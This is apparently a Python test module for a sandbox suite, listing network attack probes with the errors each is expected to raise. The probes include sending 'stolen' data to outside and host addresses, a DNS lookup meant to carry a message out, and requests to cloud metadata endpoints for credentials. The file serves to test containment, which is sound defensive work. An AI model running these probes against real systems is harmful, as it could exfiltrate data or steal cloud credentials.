"""Attacks that try to send something out, or to reach a server of the host."""

from tests.hostile.attack import Attack

_CONNECT = r"""
def connect(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        client.send(b"stolen")
        return "sent"
"""
_CLOSED = "ENETUNREACH ECONNREFUSED EADDRNOTAVAIL EHOSTUNREACH"

NETWORK = (
    Attack(
        "dns",
        "It asks for the address of a name, and hides a message in it.",
        r"""
        attempt("name", socket.getaddrinfo, "stolen.example.com", 443)
        for server in ("8.8.8.8", "127.0.0.53", "127.0.0.11"):
            def ask():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                    client.settimeout(0.5)
                    client.connect((server, 53))
                    client.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")
                    return client.recv(512)
            attempt(server, ask)
        """,
        {"name": "gaierror", "8.8.8.8": _CLOSED, "127.0.0.53": _CLOSED, "127.0.0.11": _CLOSED},
    ),
    Attack(
        "tcp",
        "It connects to the internet, to a private network and to the host by way of a bridge.",
        _CONNECT
        + r"""
for name, address in {
    "internet": ("192.0.2.1", 443),
    "private": ("10.0.0.1", 80),
    "bridge": ("172.17.0.1", 22),
}.items():
    attempt(name, connect, socket.AF_INET, socket.SOCK_STREAM, address)
""",
        {"internet": _CLOSED, "private": _CLOSED, "bridge": _CLOSED},
    ),
    Attack(
        "loopback",
        "It connects to servers on the host's loopback, as databases and model servers are.",
        _CONNECT
        + r"""
attempt("tcp", connect, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", HINTS["ports"]["tcp"]))
attempt("udp", connect, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", HINTS["ports"]["udp"]))
attempt("ipv6", connect, socket.AF_INET6, socket.SOCK_STREAM, ("::1", HINTS["ports"]["tcp6"]))
""",
        {"tcp": _CLOSED, "udp": f"{_CLOSED} got", "ipv6": f"{_CLOSED} EAFNOSUPPORT"},
        open=("tcp", "udp"),
        reduced=True,
    ),
    Attack(
        "udp",
        "It sends datagrams, which ask for no connection.",
        _CONNECT
        + r"""
attempt("internet", connect, socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))
attempt("private", connect, socket.AF_INET, socket.SOCK_DGRAM, ("10.0.0.1", 514))
attempt("broadcast", connect, socket.AF_INET, socket.SOCK_DGRAM, ("255.255.255.255", 9))
""",
        {"internet": _CLOSED, "private": _CLOSED, "broadcast": f"{_CLOSED} EACCES"},
    ),
    Attack(
        "ipv6",
        "The same by IPv6, with a link-local and a multicast address.",
        _CONNECT
        + r"""
attempt("internet", connect, socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443))
attempt("link", connect, socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", 80, 0, 1))
attempt("multicast", connect, socket.AF_INET6, socket.SOCK_DGRAM, ("ff02::1", 9))
""",
        dict.fromkeys(("internet", "link", "multicast"), f"{_CLOSED} EAFNOSUPPORT EINVAL"),
    ),
    Attack(
        "metadata",
        "It asks a cloud's metadata address for the machine's credentials.",
        r"""
        import urllib.request
        for address in ("169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal"):
            def ask():
                try:
                    return urllib.request.urlopen(f"http://{address}/latest/meta-data/", timeout=2).read()
                except urllib.error.URLError as error:
                    raise error.reason from None
            attempt(address.strip("[]").replace(":", "-"), ask)
        """,
        {
            "169.254.169.254": _CLOSED,
            "fd00-ec2--254": f"{_CLOSED} EAFNOSUPPORT",
            "metadata.google.internal": "gaierror",
        },
    ),
    Attack(
        "abstract-sockets",
        "It connects to a socket of the host that has no file, and lists those that there are.",
        r"""
        def connect(address):
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(address)
        attempt("planted", connect, HINTS["abstract"])
        for name in ("/tmp/.X11-unix/X0", "/tmp/dbus-1", "/org/kernel/linux/storage/multipathd", "/containerd-shim/x"):
            attempt(name, connect, "\0" + name)
        say("listed", "found" if "hostile" in read("/proc/net/unix").decode() else "none")
        """,
        {
            **dict.fromkeys(("planted", "/tmp/.X11-unix/X0", "/tmp/dbus-1"), "ECONNREFUSED"),
            **dict.fromkeys(("/org/kernel/linux/storage/multipathd", "/containerd-shim/x"), "ECONNREFUSED"),
            "listed": "none",
        },
        open=("planted", "listed"),
        reduced=True,
    ),
    Attack(
        "raw-sockets",
        "It opens sockets below TCP and beside IP: raw, packet, virtual machine, crypto, Bluetooth.",
        r"""
        def make(family, kind, protocol=0):
            socket.socket(family, kind, protocol).close()
        attempt("raw", make, socket.AF_INET, socket.SOCK_RAW, 1)
        attempt("packet", make, 17, socket.SOCK_RAW, 0x300)
        attempt("vsock", make, 40, socket.SOCK_STREAM)
        attempt("crypto", make, 38, 5)
        attempt("bluetooth", make, 31, socket.SOCK_RAW, 1)
        attempt("netfilter", make, 16, socket.SOCK_RAW, 12)
        """,
        {
            "raw": "EPERM",
            "packet": "EPERM EAFNOSUPPORT",
            "vsock": {"bubblewrap": "EAFNOSUPPORT", "docker": "got EPERM EAFNOSUPPORT ENODEV"},
            "crypto": {"bubblewrap": "EAFNOSUPPORT", "docker": "got EAFNOSUPPORT EPERM"},
            "bluetooth": "EPERM EAFNOSUPPORT",
            "netfilter": "EPERM EPROTONOSUPPORT EAFNOSUPPORT got",
        },
    ),
    Attack(
        "interfaces",
        "It looks for a network interface beside its own loopback, makes one, and sets a route.",
        r"""
        import fcntl, struct
        print(socket.if_nameindex())
        names = {name for _, name in socket.if_nameindex()}
        real = {name for name in names if not os.path.exists(f"/sys/class/net/{name}/tun_flags")} - {"lo"}
        up = set()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            for name in names - {"lo"}:
                flags = struct.unpack("16xH", fcntl.ioctl(control, 0x8913, struct.pack("16sH14x", name.encode(), 0))[:18])
                up |= {name} if flags[0] & 1 else set()
            attempt("change", fcntl.ioctl, control, 0x8914, struct.pack("16sH14x", b"lo", 0))
            attempt("route", fcntl.ioctl, control, 0x890B, bytes(120))
        say("interfaces up", "some" if up else "none")
        attempt("tunnel", os.open, "/dev/net/tun", os.O_RDWR)
        """,
        {"change": "EPERM", "route": "EPERM", "interfaces up": "none", "tunnel": "ENOENT EACCES EPERM"},
    ),
)
